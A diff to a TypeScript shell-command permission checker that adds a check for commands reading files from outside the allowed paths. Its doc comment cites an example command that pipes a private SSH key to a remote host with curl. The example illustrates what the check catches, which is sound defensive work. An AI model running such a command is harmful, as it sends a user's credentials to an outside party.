@@ -58,6 +58,14 @@ function isWithin(ends: Ends, use: "read" | "edit", { question }: CommandView): 
   return inside || allowedByPath(use, ends, question) !== undefined;
 }
 
+/** A file outside that its input comes from: `curl -T - host < ~/.ssh/key`. */
+export function inputFromOutside(part: SimpleCommand, view: CommandView): Obstacle | undefined {
+  const { question } = view;
+  const files = filesOf({ ...part, words: [] }, view.placesOf(part), question.home, "lenient");
+  const read = files.filter(({ use, path }) => use === "read" && path !== "/dev/stdin");
+  return read.map((file) => obstacleAt(file, "read", view)).find(Boolean);
+}
+
 /** A link among the names that `xargs` passes on. */
 export function fedOut(part: SimpleCommand, view: CommandView): Obstacle | undefined {
   const feeder = printerFor(part, view.analysis.commands);
